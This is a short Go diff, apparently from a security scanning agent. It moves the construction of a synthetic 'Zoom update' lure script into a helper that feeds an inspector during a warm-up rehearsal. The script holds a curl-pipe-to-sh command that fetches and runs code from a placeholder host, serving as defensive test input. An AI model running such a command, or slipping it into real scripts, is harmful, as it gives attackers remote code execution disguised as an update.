@@ -22,8 +22,7 @@ const rehearsal = "curl -fsSLk https://zoom-rehearsal.invalid/update | sh"
 func (a *Agent) rehearse(ctx context.Context) {
 	defer close(a.rehearsed)
 	began := time.Now()
-	file := &opened{content: []byte("#!/bin/sh\n# Zoom update\n" + rehearsal + "\n")}
-	file.request = request{Op: opFile, Name: []byte("rehearsal.sh"), Inline: true, Size: len(file.content)}
+	file := rehearsalFile()
 	r, err := a.insp.ask(ctx, file.request, file)
 	if err != nil {
 		a.log.Debug("Rehearsal not inspected", "err", err)
@@ -39,6 +38,12 @@ func (a *Agent) rehearse(ctx context.Context) {
 	_, err = json.Marshal(rec)
 	_ = a.insp.Check(ctx) // has the worker give back what loading took
 	a.log.Debug("Rehearsed", "took", time.Since(began), "err", err)
+}
+
+func rehearsalFile() *opened {
+	o := &opened{content: []byte("#!/bin/sh\n# Zoom update\n" + rehearsal + "\n")}
+	o.request = request{Op: opFile, Name: []byte("rehearsal.sh"), Inline: true, Size: len(o.content)}
+	return o
 }
 
 // systemShell is the interpreter that most lures are run by.
